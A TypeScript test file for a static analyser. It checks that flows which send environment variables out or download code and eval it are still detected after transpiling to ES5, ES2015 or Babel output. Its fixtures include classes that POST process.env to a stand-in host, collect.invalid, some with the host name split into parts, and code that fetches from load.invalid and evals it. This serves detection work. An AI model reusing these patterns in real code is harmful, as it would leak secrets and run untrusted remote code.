import assert from 'node:assert/strict';
import { transformSync } from 'esbuild';
import ts from 'typescript';
import { flowsOf } from '../platform/sent.js';

const inEs5 = (code: string): string => {
  const { options } = ts.convertCompilerOptionsFromJson(
    { target: 'ES5', module: 'CommonJS', downlevelIteration: true },
    '.',
  );
  return ts.transpileModule(code, { compilerOptions: options }).outputText;
};
const inEs2015 = (code: string): string => transformSync(code, { target: 'es2015' }).code;

const SENT = 'environment>network@collect.invalid';
const send = (data: string): string =>
  `https.request({ host: this.host, method: 'POST' }).end(JSON.stringify(${data}))`;

/** Classes of which an instance sends everything, once somebody makes one. */
const CLASSES: Readonly<Record<string, string>> = {
  'of their own': `class Base {} class Out extends Base { constructor(parts) { super({ a: 1 }); this.host = parts.join('.'); } go() { ${send('process.env')} } }
    exports.run = () => new Out(['collect', 'invalid']).go();`,
  'without a parent': `class Out { constructor(parts) { this.host = parts.join('.'); } go() { ${send('process.env')} } }
    exports.run = () => new Out(['collect', 'invalid']).go();`,
  'that emit': `class Out extends events.EventEmitter { constructor({ parts = ['collect', 'invalid'] } = {}) { super(); this.host = parts.join('.'); this.on('go', () => this.go()); } go() { ${send('process.env')} } }
    exports.run = (options) => new Out(options).emit('go');`,
  'that are written to': `class Out extends stream.Writable { constructor(parts) { super({ objectMode: true }); this.host = parts.join('.'); } _write(chunk, encoding, done) { ${send('chunk')}; } }
    const out = new Out(['collect', 'invalid']); exports.run = () => out.write({ ...process.env });`,
  'that begin with a timer': `class Out extends events.EventEmitter { constructor() { super(); this.host = 'collect.invalid'; this.timer = setInterval(() => this.go(), 400); } go() { ${send('process.env')} } }
    exports.run = (options) => new Out(options);`,
  'with parts that were put in before': `class Out extends events.EventEmitter { constructor() { super(); this.parts = []; this.use((text) => https.request({ host: 'collect.invalid', method: 'POST' }).end(text)); this.timer = setInterval(() => this.go(), 400); } use(part) { this.parts.push(part); return this; } go() { this.parts.forEach((part) => part(JSON.stringify(process.env))); } }
    exports.run = (options) => new Out(options);`,
};

describe('classes for engines that know none', () => {
  for (const [what, code] of Object.entries(CLASSES))
    it(`are classes: ${what}`, () => {
      for (const compiled of [code, inEs5(code)])
        assert.ok(flowsOf(compiled).includes(SENT), `${flowsOf(compiled).join('; ')} of ${compiled}`);
    });

  it('are none where a function has no methods', () => {
    const code = `function join(a, b) { return a + b; } join.version = 1; exports.run = () => join('a', 'b');`;
    assert.deepEqual(flowsOf(code), []);
  });
});

/** Functions that wait, more of them in a file than a function is followed with. */
const many = (body: string): string =>
  Array.from({ length: 6 }, (_, at) => `exports.f${at} = async (x) => { await x(${at}); return ${at}; };`).join('\n') +
  `\nconst ask = async (url) => { const answer = await fetch(url); return answer.text(); };\n${body}`;

const WAITING = many(
  `class Queue { constructor() { this.jobs = []; } push(job) { this.jobs.push(job); } async run(resolve) { const job = this.jobs.shift(); if (!job) return; eval(await resolve(job)); } }
   exports.start = async () => { const queue = new Queue(); queue.push('https://load.invalid/x'); await queue.run((job) => ask(job)); };`,
);

const BABEL = `function _asyncToGenerator(fn) { return function () { var self = this, args = arguments; return new Promise(function (resolve, reject) { var gen = fn.apply(self, args); function step(key, arg) { try { var info = gen[key](arg); var value = info.value; } catch (error) { reject(error); return; } if (info.done) { resolve(value); } else { Promise.resolve(value).then(function (value) { step("next", value); }, function (err) { step("throw", err); }); } } step("next"); }); }; }`;

describe('functions that wait, for engines that know generators at best', () => {
  it('wait, however many of them go through one function', () => {
    for (const [how, compiled] of [
      ['as it is', WAITING],
      ['esbuild', inEs2015(WAITING)],
      ['TypeScript', inEs5(WAITING)],
      [
        'Babel',
        `${BABEL} ${Array.from({ length: 6 }, (_, at) => `exports.f${at} = _asyncToGenerator(function* (x) { yield x(${at}); });`).join(' ')}
         const ask = _asyncToGenerator(function* (url) { const answer = yield fetch(url); return answer.text(); });
         const run = _asyncToGenerator(function* (url) { eval(yield ask(url)); }); exports.start = () => run('https://load.invalid/x');`,
      ],
    ] as const)
      assert.ok(flowsOf(compiled).includes('downloaded>evaluated'), `${how}: ${flowsOf(compiled).join('; ')}`);
  });
});
